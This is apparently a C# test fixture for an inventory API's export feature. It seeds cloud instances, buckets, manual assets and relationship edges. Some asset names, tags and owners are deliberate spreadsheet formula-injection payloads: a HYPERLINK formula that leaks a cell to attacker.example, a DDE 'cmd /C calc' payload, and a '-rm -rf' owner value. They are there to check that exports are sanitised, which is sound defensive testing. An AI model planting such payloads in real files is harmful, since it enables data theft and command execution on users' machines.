using System.Text.Json;
using Alba;
using Inventory.Api.Assets.Edits;
using Inventory.Api.Tests.Harness;
using Inventory.Api.Tests.Relationships;
using Inventory.Domain.Assets;
using Inventory.Domain.Observations;
using Inventory.Domain.Reconciliation;
using Inventory.Domain.Scopes;

namespace Inventory.Api.Tests.Exports;

/// <summary>
/// A register to export: instances in two accounts (one gone since) in a discovered subnet, tagged buckets, manual assets with every
/// field people keep, manual edges between discovered assets, and names, owners and tags that look like formulas.
/// </summary>
public sealed class ExportApp : InventoryApp
{
    public const string Prod = "620000000001";
    public const string Dev = "620000000002";
    public const string Formula = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")";

    /// <summary>Human ids by asset name, once the register is recorded.</summary>
    public Dictionary<string, string> HumanIds { get; } = new(StringComparer.Ordinal);

    public string PayrollHumanId => HumanIds["Payroll"];
    public string TrapHumanId => HumanIds[Formula];

    public override async Task InitializeAsync()
    {
        await base.InitializeAsync();
        var at = Harness.Scans.Monday;
        await Ec2Async(Prod, "eu-west-1", at, ("i-0a1", "web-1", "prod", "running"), ("i-0a2", "web-2", "prod", "stopped"), ("i-0a3", "batch", null, "running"));
        await Ec2Async(Prod, "us-east-1", at, ("i-0b1", "api", "prod", "running"));
        await Ec2Async(Dev, "eu-west-1", at, ("i-0c1", "web-dev", "dev", "running"));
        // The batch instance has vanished since.
        await Ec2Async(Prod, "eu-west-1", at.AddHours(1), ("i-0a1", "web-1", "prod", "running"), ("i-0a2", "web-2", "prod", "stopped"));
        // The subnet the instances name, so discovery derives their in-subnet edges.
        await RecordAsync(ScopeScan.Clean(new ScopeId(Prod, "eu-west-1", "vpc"), at, Cause.DiscoveryJob("job-1"),
            [new Observation { ResourceId = "subnet-1", Name = "subnet-1", ResourceType = "vpc:subnet", State = "available" }]));
        await RecordAsync(ScopeScan.Clean(new ScopeId(Prod, ScopeId.GlobalRegion, "s3"), at, Cause.DiscoveryJob("job-1"),
        [
            new Observation
            {
                Arn = "arn:aws:s3:::logs-bucket", ResourceId = "logs-bucket", Name = "logs-bucket", ResourceType = "s3:bucket",
                Tags = new Dictionary<string, string> { ["team"] = "red,blue" }, DnsNames = ["logs-bucket.s3.amazonaws.com"],
            },
            new Observation
            {
                Arn = "arn:aws:s3:::+cmd-bucket", ResourceId = "+cmd-bucket", Name = "@SUM(1+1)*cmd|' /C calc'!A0", ResourceType = "s3:bucket",
                Tags = new Dictionary<string, string> { ["=cmd"] = "-2+3" },
            },
        ]));

        await RegisterAsync(new
        {
            name = "Payroll", kind = "saas", ipAddresses = new[] { "10.1.0.5", "10.1.0.6" }, dnsNames = new[] { "payroll.example.com" },
            fields = new
            {
                owner = "alice", criticality = "critical", department = "finance", category = "storage", vendor = "Acme Payroll", version = "4.2",
                url = "https://payroll.example.com", description = "Salaries, one line", notes = "Contract renews in May", classification = "confidential",
                gdprRelevant = true, personalData = true, backupEnabled = false, monitoringEnabled = true,
            },
        });
        await RegisterAsync(new { name = "Wiki", kind = "self-hosted", fields = new { owner = "bob", criticality = "low", classification = "internal" } });
        await RegisterAsync(new { name = Formula, kind = "on-premise", fields = new { owner = "-rm -rf", notes = "@channel: page the on-call", criticality = "high" } });

        var assets = await ListRows.AllAsync(Host, "");
        foreach (var asset in assets)
            HumanIds[asset.Name!] = asset.HumanId!;
        string Id(string name) => assets.Single(a => a.Name == name).Id;
        await AddEdgeAsync(Id("web-1"), Id("logs-bucket"), "depends-on");
        await AddEdgeAsync(Id("api"), Id("web-1"), "contains");
        await AddEdgeAsync(Id("web-2"), Id("api"), "connects-to");
        await AddEdgeAsync(Id("web-2"), Id("web-1"), "managed-by");
        await this.WaitForGraphAsync();
    }

    private Task<string> RegisterAsync(object input) => AfterAsync(() => Host.SendAsync(s => s.Post.Json(input).ToUrl("/api/assets"), 201));

    private Task AddEdgeAsync(string source, string target, string type) =>
        AfterAsync(() => Host.SendAsync(s => s.Post.Json(new { targetId = target, type }).ToUrl($"/api/assets/{source}/relationships"), 201));

    private Task Ec2Async(string account, string region, DateTimeOffset at, params (string Id, string Name, string? Env, string State)[] instances) =>
        RecordAsync(ScopeScan.Clean(new ScopeId(account, region, "ec2"), at, Cause.DiscoveryJob("job-" + at.ToUnixTimeSeconds()), instances.Select(i =>
            Harness.Scans.Instance(i.Id, i.State, name: i.Name, account: account,
                tags: i.Env is null ? new Dictionary<string, string> { ["Name"] = i.Name } : new Dictionary<string, string> { ["Name"] = i.Name, ["env"] = i.Env }) with
            {
                Arn = $"arn:aws:ec2:{region}:{account}:instance/{i.Id}",
            }).ToArray()));
}
